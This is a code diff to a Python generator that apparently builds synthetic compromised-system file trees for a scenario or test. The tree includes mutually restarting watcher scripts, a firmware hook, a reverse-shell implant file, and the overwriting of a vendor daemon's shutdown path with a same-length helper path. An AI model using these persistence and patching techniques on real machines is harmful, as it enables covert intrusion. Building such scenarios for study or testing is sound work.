@@ -92,8 +92,9 @@ def _boot_script() -> str:
 
 
 def _call(chosen: Names) -> str:
-    """The helper's path, padded to the length of the string it replaces where it is shorter."""
-    return f"{chosen.folder}/{chosen.helper}".ljust(len(_STOP))
+    """The helper's path in place of the shut-down program's, same length where it fits."""
+    stop, arguments = _STOP.split(" ", 1)
+    return f"{chosen.folder}/{chosen.helper}".ljust(len(stop)) + " " + arguments
 
 
 def _vendor_daemon(chosen: Names, stop: str) -> bytes:
@@ -129,11 +130,18 @@ def _implant(chosen: Names, rng: Random) -> Tree:
     keep, take = chosen.folder, (chosen.main, chosen.twin)
     scripts = {take[0]: _watcher(chosen, rng, rng.randint(0, 9), take[1])}
     scripts[take[1]] = _watcher(chosen, rng, rng.randint(0, 9), take[0])
+    if chosen.near_copy:
+        scripts[take[1]] = _swapped(scripts[take[0]], take)
     scripts[chosen.hook] = "#!/bin/bash\n" + idioms.endless(rng, chosen.interval, idioms.firmware_hook(rng, chosen))
     scripts[chosen.helper] = f"#!/bin/bash\n# graceful shut-down\nkillall {chosen.main} {chosen.twin}\nsync\nreboot\n"
     tree: Tree = {f"{keep}/{name}": (text.encode(), 0o755) for name, text in scripts.items()}
     tree[f"{keep}/{chosen.implant}"] = (_reverse_shell(chosen), 0o755)
     return tree
+
+
+def _swapped(script: str, take: tuple[str, str]) -> str:
+    """The first script with both names exchanged: the near copy that the reports describe."""
+    return script.replace(take[1], "\0").replace(take[0], take[1]).replace("\0", take[0])
 
 
 def _watcher(chosen: Names, rng: Random, style: int, other: str) -> str:
